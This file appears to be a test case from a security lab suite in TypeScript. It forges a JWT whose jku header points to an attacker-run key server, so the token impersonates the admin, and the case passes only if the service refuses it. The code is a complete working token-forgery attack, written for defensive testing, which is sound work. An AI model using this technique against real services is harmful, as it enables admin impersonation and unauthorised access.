import { generateKeyPairSync } from 'node:crypto'
import { by, forged, partsOf } from '../lab/forge.js'
import type { Attack } from '../lab/attack.js'

export default {
  title: "Have the service fetch the attacker's key",
  risk: 'API2',
  cwe: 918,
  concern: 'tokens',
  story: 'The header may say where the key lies (`jku`). Mallory signs with her own, and names a server of hers.',
  defence: 'No address out of a token is ever asked: keys of other issuers come from where the service says.',
  refusal: { status: 401, code: 'FST_BASTION_TOKENS_INVALID' },
  async run ({ step, ask, signIn, person, lair }) {
    const mallory = await person()
    const { header, claims } = partsOf(mallory.token)
    const { id } = await signIn('admin')
    const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    const { url, hits } = await lair((_request, response) => {
      response.setHeader('content-type', 'application/json').end(JSON.stringify({ keys: [publicKey.export({ format: 'jwk' })] }))
    })
    step("The admin's token, signed with her own key, which lies on her own server")
    const token = forged({ ...header, alg: 'ES256', jku: `${url}/keys.json` }, { ...claims, sub: id }, by(privateKey))
    const decisive = await ask('GET', '/users/me', { token })
    const succeeded = hits.length > 0 || (decisive.status === 200 && decisive.body.username === 'admin')
    return { succeeded, decisive, evidence: succeeded ? 'The key is fetched from her, and the service greets the admin' : 'Nobody came to her server' }
  },
} satisfies Attack
